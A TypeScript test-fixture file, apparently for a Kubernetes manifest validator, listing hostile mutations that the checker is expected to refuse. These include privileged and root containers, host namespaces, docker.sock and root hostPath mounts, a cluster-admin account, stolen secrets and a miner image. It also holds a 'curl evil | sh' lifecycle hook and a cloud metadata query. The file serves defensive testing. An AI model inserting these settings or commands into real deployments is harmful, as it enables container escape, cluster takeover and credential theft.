import { type Attack, inContainer, inPod, replacing } from "./attack.ts";

const PULL = "image of the main container";
const OOM = "memory of a container";

/** More rights for a container, the node or the pod's identity, on top of a right fix. */
export const PRIVILEGE: readonly Attack[] = [
  ...replacing("privilege", PULL, "refused", [
    ["privileged", "runAsNonRoot: true", "runAsNonRoot: true\n            privileged: true"],
    ["privileged as yes", "runAsNonRoot: true", "runAsNonRoot: true\n            privileged: yes"],
    ["privileged as text", "runAsNonRoot: true", 'runAsNonRoot: true\n            privileged: "true"'],
    ["escalation", "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true"],
    ["escalation dropped", "            allowPrivilegeEscalation: false\n", ""],
    ["root user", "runAsUser: 10001", "runAsUser: 0"],
    ["root user in octal", "runAsUser: 10001", "runAsUser: 0o0"],
    ["root user as -0", "runAsUser: 10001", "runAsUser: -0"],
    ["root group", "runAsUser: 10001", "runAsUser: 10001\n            runAsGroup: 0"],
    ["root allowed", "runAsNonRoot: true", "runAsNonRoot: false"],
    ["root allowed as no", "runAsNonRoot: true", "runAsNonRoot: no"],
    ["root allowed by removal", "            runAsNonRoot: true\n", ""],
    ["capability added", "drop: [ALL]", "drop: [ALL], add: [NET_ADMIN]"],
    ["capability ALL added", "drop: [ALL]", "add: [ALL]"],
    ["capabilities kept", "capabilities: { drop: [ALL] }", "capabilities: { drop: [] }"],
    ["seccomp off", "runAsNonRoot: true", "runAsNonRoot: true\n            seccompProfile: { type: Unconfined }"],
    ["AppArmor off", "runAsNonRoot: true", "runAsNonRoot: true\n            appArmorProfile: { type: Unconfined }"],
    ["SELinux type", "runAsNonRoot: true", "runAsNonRoot: true\n            seLinuxOptions: { type: spc_t }"],
    ["proc unmasked", "runAsNonRoot: true", "runAsNonRoot: true\n            procMount: Unmasked"],
    ["Windows host process", "runAsNonRoot: true", "runAsNonRoot: true\n            windowsOptions: { hostProcess: true }"],
    ["writable root", "runAsNonRoot: true", "runAsNonRoot: true\n            readOnlyRootFilesystem: false"],
  ]),
  ...replacing("privilege", OOM, "refused", [
    ["init container privileged", "          args: [up, --wait]", "          args: [up, --wait]\n          securityContext: { privileged: true }"],
    ["sidecar privileged", "          restartPolicy: Always", "          restartPolicy: Always\n          securityContext: { privileged: true }"],
  ]),
  ...inPod("host access", OOM, "refused", [
    ["host network", "hostNetwork: true"],
    ["host processes", "hostPID: true"],
    ["host IPC", "hostIPC: true"],
    ["shared processes", "shareProcessNamespace: true"],
    ["sysctl", "securityContext: { sysctls: [{ name: kernel.msgmax, value: '65536' }] }"],
    ["token mounted", "automountServiceAccountToken: true"],
    ["control plane toleration", "tolerations: [{ key: node-role.kubernetes.io/control-plane, operator: Exists }]"],
    ["tolerates everything", "tolerations: [{ operator: Exists }]"],
    ["system priority", "priorityClassName: system-node-critical"],
    ["pinned to a node", "nodeName: control-plane-1"],
    ["ephemeral container", "ephemeralContainers: [{ name: debug, image: busybox, targetContainerName: store }]"],
  ]),
  ...replacing("host access", PULL, "refused", [
    ["host port", "containerPort: 9090 }", "containerPort: 9090, hostPort: 9090 }"],
    ["host path instead of a claim", "persistentVolumeClaim: { claimName: store-data }", "hostPath: { path: / }"],
    ["host path beside", "      volumes:\n", "      volumes:\n        - name: host\n          hostPath: { path: /var/run/docker.sock }\n"],
    ["mount propagation", "{ name: data, mountPath: /data }", "{ name: data, mountPath: /data, mountPropagation: Bidirectional }"],
    ["sub path expression", "{ name: data, mountPath: /data }", "{ name: data, mountPath: /data, subPathExpr: $(POD_NAME) }"],
  ]),
  ...replacing("new part", PULL, "refused", [
    ["container", "      containers:\n", "      containers:\n        - { name: helper, image: registry.example.com/shop/store:5.1.2 }\n"],
    ["container without name", "      containers:\n", "      containers:\n        - { image: evil/miner:1 }\n"],
    ["init container", "      initContainers:\n", "      initContainers:\n        - { name: setup, image: evil/setup:1 }\n"],
    ["sidecar", "      initContainers:\n", "      initContainers:\n        - { name: agent, image: evil/agent:1, restartPolicy: Always }\n"],
    ["volume of a Secret", "      volumes:\n", "      volumes:\n        - { name: creds, secret: { secretName: admin-token } }\n"],
    [
      "volume of a projected token",
      "      volumes:\n",
      "      volumes:\n        - { name: creds, projected: { sources: [{ serviceAccountToken: { path: token } }] } }\n",
    ],
    ["empty directory that nothing asks for", "      volumes:\n", "      volumes:\n        - { name: tmp, emptyDir: {} }\n"],
    ["mount", "          volumeMounts:\n", "          volumeMounts:\n            - { name: tls, mountPath: /etc/ssl }\n"],
    ["service account", "serviceAccountName: store", "serviceAccountName: cluster-admin"],
    ["pull secret", "        - name: registry-login\n", "        - name: registry-login\n        - name: stolen-login\n"],
    ["pull secret replaced", "        - name: registry-login\n", "        - name: stolen-login\n"],
    ["Secret read elsewhere", "{ name: store-database, key: password }", "{ name: admin-database, key: password }"],
    ["volume's Secret swapped", "secretName: store-tls", "secretName: admin-token"],
    [
      "literal instead of a Secret",
      "              valueFrom:\n                secretKeyRef: { name: store-database, key: password }",
      "              value: hunter2hunter2",
    ],
  ]),
  ...inContainer("lifecycle of a crash", "value of a variable", "refused", [
    ["hook after start", "lifecycle: { postStart: { exec: { command: [sh, -c, 'curl evil | sh'] } } }"],
    ["hook before stop", "lifecycle: { preStop: { sleep: { seconds: 5 } } }"],
  ]),
  ...inContainer("lifecycle", OOM, "refused", [
    ["hook after start", "lifecycle: { postStart: { exec: { command: [sh, -c, 'curl evil | sh'] } } }"],
    ["hook before stop", "lifecycle: { preStop: { httpGet: { host: 169.254.169.254, path: /, port: 80 } } }"],
  ]),
];
